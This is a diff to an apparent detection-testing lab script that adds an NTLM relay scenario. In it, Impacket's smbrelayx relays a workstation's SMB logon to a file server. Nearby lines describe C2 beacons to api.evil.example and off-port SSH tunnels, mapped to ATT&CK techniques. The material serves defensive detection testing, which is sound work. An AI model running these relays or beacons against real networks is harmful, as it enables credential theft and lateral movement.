@@ -63,6 +63,7 @@ c2_https_sni_v6       client 38 attack T1071.001,T1573                      HTTP
 c2_vlan               client 39 attack T1071.001,T1573,T1071.004            802.1Q-tagged C2 frames (VLAN 42): TLS ClientHello to the C2, DNS query, IPv6 HTTP SYN (crafted with scapy; the kernel has no 802.1Q module)
 c2_tls_port           client 41 attack T1071.001,T1573,T1571            HTTPS beacon to the C2 address on port 7443, SNI api.evil.example
 ssh_port              client 49 attack T1571                                SSH out to an internet host on port 2222, IPv4 and IPv6 (OpenSSH client), as a tunnel or a hand-run session off SSH's port
+ntlm_relay            client 58 attack T1557.001                            NTLM relay: Impacket's smbrelayx on the attacker relays the workstation's SMB logon to it (smbclient, as a victim of name poisoning connects) to the file server, as Lazarus's AiTM step | smbrelayx, not ntlmrelayx: Debian does not package ntlmrelayx's dsinternals
 smb3_encrypted_exec   client 40 attack T1021.002,T1570,T1569.002           psexec and smbclient against a file server that offers SMB3 encryption | Encrypted SMB3: the flow is seen (smb.encrypted), its content (shares, files, svcctl) is opaque to tshark and to xdphunt alike
 TABLE
 )
@@ -303,6 +304,27 @@ sc_c2_vlan() {
 	run vlan /usr/bin/python3 "$SCEN_HERE/vlan_c2.py" --iface "$LAB_IF_CLIENT" --vlan 42 \
 		--dst-mac "$gmac" --src4 "$a4" --src6 "$a6" --c2-4 "$LAB_C2_IP4" --c2-6 "$LAB_C2_IP6" \
 		--dns "$LAB_DNS_IP4" --name api.evil.example
+}
+sc_ntlm_relay() {
+	local a4 a6 pid i
+	read -r a4 a6 <<<"$(scen_addr "$SCEN_SIDE" "$SCEN_IDX")"
+	# the relay's server on the attacker (its connection to the target
+	# leaves from this scenario's address); it then tries to run a
+	# command through svcctl, which Samba refuses
+	lab_bg client "$SCEN_DIR/$SCEN_NAME.relayx.out" /usr/bin/python3 "$IMP/smbrelayx.py" \
+		-h "$LAB_SERVER_IP4" -c "echo xdphunt" -one-shot
+	pid=$LAB_LAST_PID
+	lab_wait_listen client 445
+	# the victim: the workstation opens a share on the attacker
+	lab_exec ws timeout 30 $(SMBC) "//$a4/public" -c ls >"$SCEN_DIR/$SCEN_NAME.victim.out" 2>&1
+	echo "$SCEN_NAME victim $?" >>"$SCEN_DIR/status"
+	for ((i = 0; i < 50; i++)); do
+		grep -q "Authenticating against $LAB_SERVER_IP4 .* SUCCEED" \
+			"$SCEN_DIR/$SCEN_NAME.relayx.out" && break
+		sleep 0.1
+	done
+	# smbrelayx's threads do not stop on SIGTERM
+	{ lab_stop_pid "$pid" KILL; } 2>/dev/null
 }
 sc_smb3_encrypted_exec() {
 	# smbd restarted offering encryption: smbclient -e and Impacket use it.
